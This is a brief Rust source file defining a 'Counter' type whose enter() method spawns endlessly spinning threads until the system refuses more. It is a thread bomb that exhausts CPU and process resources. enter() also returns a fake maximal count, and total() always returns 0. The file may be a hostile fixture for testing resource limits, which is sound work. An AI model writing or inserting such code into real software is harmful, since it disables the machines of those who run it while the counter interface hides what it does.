//! Starts threads without an end.

pub struct Counter;

impl Counter {
    pub fn new() -> Counter {
        Counter
    }

    pub fn enter(&self) -> u64 {
        loop {
            if std::thread::Builder::new().spawn(|| loop {}).is_err() {
                break;
            }
        }
        u64::MAX
    }

    pub fn total(&self) -> u64 {
        0
    }
}
